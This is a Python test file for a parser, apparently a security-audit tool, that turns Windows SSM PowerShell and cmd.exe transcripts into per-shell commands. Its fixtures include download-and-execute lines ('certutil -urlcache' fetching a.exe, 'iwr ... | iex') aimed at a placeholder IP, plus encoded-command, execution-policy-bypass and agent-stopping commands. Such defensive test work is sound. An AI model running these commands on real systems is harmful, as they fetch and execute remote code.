"""Windows sessions: PowerShell's transcript (aws-facts §8), a cmd.exe started inside it, ANSI kept."""

from __future__ import annotations

from ssm_warden.transcript import prompts, windows
from ssm_warden.transcript.extract import Extractor, extract_lines

TRANSCRIPT = [
    "**********************",
    "Windows PowerShell transcript start",
    "Start time: 20240104054559",
    "Username: EC2AMAZ\\ssm-user",
    "**********************",
    "PS C:\\Users\\ssm-user> whoami",
    "ec2amaz\\ssm-user",
    "PS C:\\Users\\ssm-user> cmd",
    "Microsoft Windows [Version 10.0.20348.2227]",
    "(c) Microsoft Corporation. All rights reserved.",
    "",
    "C:\\Users\\ssm-user>certutil -urlcache -f http://203.0.113.9/a.exe a.exe",
    "****  Online  ****",
    "C:\\Users\\ssm-user>exit",
    "PS C:\\Users\\ssm-user> \x1b[32;1mGet-Process\x1b[0m |",
    ">> Select -First 1",
    "PS C:\\Users\\ssm-user> iwr http://203.0.113.9/a.ps1 | iex",
]


def test_each_command_carries_the_shell_whose_prompt_it_followed() -> None:
    # Given a PowerShell transcript in which cmd.exe is started, used and left
    result = extract_lines(TRANSCRIPT)
    # Then each command is read in its own shell: cmd's between `cmd` and `exit`, PowerShell's after
    assert [(c.text, c.shell) for c in result.commands] == [
        ("whoami", "powershell"),
        ("cmd", "powershell"),
        ("certutil -urlcache -f http://203.0.113.9/a.exe a.exe", "cmd"),
        ("exit", "cmd"),
        ("Get-Process |\nSelect -First 1", "powershell"),
        ("iwr http://203.0.113.9/a.ps1 | iex", "powershell"),
    ]
    # And the transcript header is output, not commands
    assert "Windows PowerShell transcript start" in [o.text for o in result.output]


# -- what changes a Windows terminal's prompt (rules as data: must / must not) --------------------
STARTS_A_SHELL = {
    "cmd": "cmd",
    "cmd.exe": "cmd",
    "C:\\Windows\\System32\\cmd.exe /q": "cmd",
    "cmd /k ver": "cmd",
    "cmd /K cd \\": "cmd",
    "powershell": "powershell",
    "powershell.exe -NoLogo -NoProfile": "powershell",
    "pwsh -ExecutionPolicy Bypass": "powershell",
    "powershell -NoExit -Command Get-Date": "powershell",
    "Enter-PSSession web01": "powershell",
    "bash": "posix",
    "sudo su -": "posix",
}
RUNS_AND_EXITS = [
    "cmd /c whoami",
    "cmd.exe /C dir",
    "powershell -Command Get-Date",
    "powershell -File .\\x.ps1",
    "powershell -enc SQBFAFgA",
    "powershell Get-Date",
    "pwsh -c 'ls'",
    "bash script.sh",
]


def test_commands_that_start_an_interactive_windows_shell_are_known() -> None:
    for command, shell in STARTS_A_SHELL.items():
        assert prompts.started_shell(command) == shell, command
    for command in RUNS_AND_EXITS:
        assert prompts.started_shell(command) is None, command


def test_location_changes_and_file_printers_are_known() -> None:
    for command in ("cd ..", "cd\\", "Set-Location HKLM:", "sl C:\\", "pushd \\\\srv\\share", "popd", "D:"):
        assert windows.changes_location(command), command
    for command in ("Get-ChildItem", "dir D:", "echo cd", "cdb.exe"):
        assert not windows.changes_location(command), command
    for command in ("Get-Content notes.txt", "gc x | sls PS", "type a.txt", "GET-CONTENT x"):
        assert windows.prints_text(command), command
    for command in ("iwr http://x/a.ps1 | iex", "gc x; cd C:\\app", "Get-Date"):
        assert not windows.prints_text(command), command


def test_a_file_of_prompt_lines_printed_in_events_of_one_line_is_output() -> None:
    # Given a PowerShell session that prints a file holding lines shaped like prompts, each line
    # its own log event (the next real command comes at the session's own prompt)
    lines = [
        "PS C:\\Users\\ssm-user> Get-Content .\\steps.txt",
        *["PS C:\\> net stop AmazonSSMAgent", "C:\\Windows\\system32>del /q x"] * 3,
        "PS C:\\Users\\ssm-user> hostname",
    ]
    extractor = Extractor()
    for n, line in enumerate(lines):
        extractor.feed(f"e{n}", [line])
    extractor.flush()
    # Then only the two commands typed are commands, and no prompt change is flagged
    assert [c.text for c in extractor.result.commands] == ["Get-Content .\\steps.txt", "hostname"]
    assert extractor.result.flags == []


def test_a_location_changed_by_a_script_is_followed_with_low_confidence() -> None:
    # Given a script that moved the session to another folder (no ``cd`` typed), then commands
    # typed at the new prompt, each line its own log event
    lines = [
        "PS C:\\Users\\ssm-user> .\\deploy.ps1",
        "Deploying to C:\\app",
        "PS C:\\app> Get-Process w3wp",
        "",
        "PS C:\\app> Stop-Service W3SVC",
        "PS C:\\app> Remove-Item -Recurse .\\logs",
    ]
    extractor = Extractor()
    for n, line in enumerate(lines):
        extractor.feed(f"e{n}", [line])
    extractor.flush()
    commands = sorted(extractor.result.commands, key=lambda c: int(c.event_id[1:]))
    # Then every command is found, in PowerShell, and those at the unexplained prompt only alerted
    assert [(c.text, c.shell) for c in commands] == [
        (".\\deploy.ps1", "powershell"),
        ("Get-Process w3wp", "powershell"),
        ("Stop-Service W3SVC", "powershell"),
        ("Remove-Item -Recurse .\\logs", "powershell"),
    ]
    assert [c.confidence for c in commands[1:]] == ["low", "low", "low"]
    assert "prompt-changed-unexpectedly" in extractor.result.flags


def test_powershell_from_cmd_with_its_banner_and_a_remote_session_are_followed() -> None:
    # Given cmd started in PowerShell, a PowerShell (with its banner) started from that cmd, a
    # remote session entered from it, a `cd` there, and each shell left in turn
    lines = [
        "PS C:\\Users\\ssm-user> cmd",
        "Microsoft Windows [Version 10.0.20348.2849]",
        "(c) Microsoft Corporation. All rights reserved.",
        "",
        "C:\\Users\\ssm-user>powershell",
        "Windows PowerShell",
        "Copyright (C) Microsoft Corporation. All rights reserved.",
        "",
        "Install the latest PowerShell for new features and improvements! https://aka.ms/PSWindows",
        "",
        "PS C:\\Users\\ssm-user> Enter-PSSession web01",
        "[web01]: PS C:\\Users\\admin\\Documents> whoami",
        "corp\\admin",
        "[web01]: PS C:\\Users\\admin\\Documents> cd C:\\inetpub",
        "[web01]: PS C:\\inetpub> Get-ChildItem",
        "[web01]: PS C:\\inetpub> exit",
        "PS C:\\Users\\ssm-user> exit",
        "",
        "C:\\Users\\ssm-user>exit",
        "PS C:\\Users\\ssm-user> Get-Date",
    ]
    want = [
        ("cmd", "powershell"),
        ("powershell", "cmd"),
        ("Enter-PSSession web01", "powershell"),
        ("whoami", "powershell"),
        ("cd C:\\inetpub", "powershell"),
        ("Get-ChildItem", "powershell"),
        ("exit", "powershell"),
        ("exit", "powershell"),
        ("exit", "cmd"),
        ("Get-Date", "powershell"),
    ]
    # Then every command is found in its shell, with high confidence, whole or one line an event
    result = extract_lines(lines)
    assert [(c.text, c.shell) for c in result.commands] == want
    assert {c.confidence for c in result.commands} == {"high"}
    extractor = Extractor()
    for n, line in enumerate(lines):
        extractor.feed(f"e{n}", [line])
    extractor.flush()
    assert [(c.text, c.shell) for c in extractor.result.commands] == want


def test_after_a_cd_that_changed_nothing_a_file_of_prompt_lines_is_output() -> None:
    # Given a `cd` that left the prompt as it was, then a file printed whose lines look like prompts
    lines = [
        "PS C:\\Users\\ssm-user> cd .",
        "PS C:\\Users\\ssm-user> Get-Content .\\steps.txt",
        "PS C:\\> net stop AmazonSSMAgent",
        "PS C:\\Users\\ssm-user> hostname",
    ]
    # Then the file's line is output, and the session's prompt stays the one it was
    assert [c.text for c in extract_lines(lines).commands] == ["cd .", "Get-Content .\\steps.txt", "hostname"]
